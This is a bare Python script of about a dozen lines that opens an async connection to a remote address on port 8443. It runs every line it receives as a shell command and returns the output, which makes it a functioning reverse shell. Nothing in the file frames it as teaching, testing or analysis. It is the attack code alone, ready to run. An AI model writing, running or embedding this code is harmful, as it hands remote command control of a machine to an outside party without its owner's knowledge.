import asyncio


async def main():
    reader, writer = await asyncio.open_connection("203.0.113.66", 8443)
    while line := await reader.readline():
        process = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)
        out, _ = await process.communicate()
        writer.write(out)


asyncio.run(main())
